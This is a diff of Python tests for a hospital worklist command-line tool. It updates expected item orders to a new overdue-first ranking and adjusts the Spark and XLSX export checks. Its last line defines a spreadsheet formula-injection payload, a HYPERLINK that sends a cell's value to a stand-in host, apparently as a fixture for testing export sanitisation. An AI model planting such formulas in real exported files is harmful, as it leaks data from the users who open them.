@@ -50,7 +50,8 @@ def test_json_is_the_interface_and_sorted_by_urgency(sqlite_url: str) -> None:
     info = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--kind", "info"))
     assert len(info) == 13 and {item["kind"] for item in info} == {"info"}
     assert all(list(item) == ITEM_KEYS for item in out["items"])
-    assert out["items"][0] == {
+    adh03 = next(item for item in out["items"] if item["rule"] == "ADH-03")
+    assert adh03 == {
         "patient": "P0001",
         "source": "his-a",
         "hospital": "H01",
@@ -60,9 +61,15 @@ def test_json_is_the_interface_and_sorted_by_urgency(sqlite_url: str) -> None:
         "due": "2026-08-24",
         "values": {"drug": "denosumab", "due": "2026-08-24", "overdue_days": 37},
     }
-    severities = [item["severity"] for item in out["items"]]
-    order = ["critical", "high", "medium", "low"]
-    assert severities == sorted(severities, key=order.index)
+    # issue 15: overdue first, the longest overdue first (the follow-up bone scan due
+    # 2026-06-09), then what is due now, data_needed last (docs/registry.md "Ranking")
+    assert (out["items"][0]["rule"], out["items"][0]["due"]) == ("SCR-02", "2026-06-09")
+    dues = [item["due"] for item in out["items"] if item["due"] and item["due"] < DAY]
+    assert dues == sorted(dues) and out["items"][: len(dues)] == [
+        item for item in out["items"] if item["due"] and item["due"] < DAY
+    ]
+    kinds = [item["kind"] for item in out["items"]]
+    assert kinds[kinds.index("data_needed") :] == ["data_needed"] * kinds.count("data_needed")
 
 
 def test_filters_kind_hospital_and_due_window(sqlite_url: str) -> None:
@@ -70,20 +77,21 @@ def test_filters_kind_hospital_and_due_window(sqlite_url: str) -> None:
         _run(sqlite_url, "worklist", "--as-of", DAY, "--kind", "alert", "--hospital", "H02")
     )
     assert [(i["source"], i["patient"], i["rule"]) for i in alerts] == [
-        ("his-a", "P0002", "SAFE-05"),
+        ("his-b", "P0001", "ADH-02"),  # overdue first
+        ("his-a", "P0002", "SAFE-05"),  # undated alerts are due now
         ("his-a", "P0002", "SAFE-14"),
-        ("his-b", "P0001", "ADH-02"),
     ]
     due = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--due-within", "0", "--rule", "SCR"))
     assert [(i["patient"], i["rule"], i["due"]) for i in due] == [
-        ("P0003", "SCR-01", DAY),
-        # rules 1.1: the confirmed patients' follow-up (purpose "response"), by due day
+        # rules 1.1: the confirmed patients' follow-up (purpose "response"), longest overdue
+        # first, then what is due today
         ("P0001", "SCR-02", "2026-06-09"),
         ("P0001", "SCR-02", "2026-06-09"),
         ("P0002", "SCR-02", "2026-07-15"),
         ("P0001", "SCR-03", "2026-08-10"),
         ("P0001", "SCR-03", "2026-08-10"),
         ("P0002", "SCR-03", "2026-09-15"),
+        ("P0003", "SCR-01", DAY),
     ]
     surgery = _items(
         _run(sqlite_url, "worklist", "--as-of", DAY, "--department", "thoracic_surgery")
@@ -166,11 +174,11 @@ def test_refused_options_exit_2(sqlite_url: str, args: list[str], code: str) -> 
 
 def test_spark_backend_lists_the_same_items_as_duckdb(sqlite_url: str) -> None:
     """`--backend spark` runs the plan in a local Spark session: the same 25 items, in the
-    same order, as the embedded backend (ADH-03 of the overdue denosumab patient first)."""
+    same order, as the embedded backend (the longest overdue follow-up scan first)."""
     duckdb_items = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--backend", "duckdb"))
     spark_items = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--backend", "spark"))
     assert len(spark_items) == 25
-    assert spark_items[0]["rule"] == "ADH-03"
+    assert spark_items[0]["rule"] == "SCR-02"
     assert spark_items == duckdb_items
 
 
@@ -233,7 +241,11 @@ def test_items_of_a_patient_are_its_evaluate_findings(db_url: str) -> None:
     """interfaces.md: the worklist items of one patient are exactly `evaluate --patient` on
     the same day (SQLite: DuckDB backend; PostgreSQL: the push-down)."""
     stored(db_url, small_registry_records()).close()
-    every_kind = [arg for kind in ("action", "reminder", "alert", "data_needed", "info") for arg in ("--kind", kind)]
+    every_kind = [
+        arg
+        for kind in ("action", "reminder", "alert", "data_needed", "info")
+        for arg in ("--kind", kind)
+    ]
     items = _items(_run(db_url, "worklist", "--as-of", DAY, *every_kind))
     for source, patient, expected in [
         ("his-a", "P0001", 11),
@@ -277,7 +289,7 @@ def test_xlsx_for_nurses_needs_out_and_has_one_row_per_item(
     assert result.exit_code == 0, result.output
     rows = list(load_workbook(out)["工作清单"].iter_rows(values_only=True))
     assert rows[1][7] == "规则 / rule"
-    assert [row[7] for row in rows[2:]] == ["SAFE-05", "SAFE-14", "ADH-02", "ADH-02"]
+    assert [row[7] for row in rows[2:]] == ["ADH-02", "ADH-02", "SAFE-05", "SAFE-14"]
 
 
 EVIL_ID = '=HYPERLINK("http://evil/?"&A1,"x")'
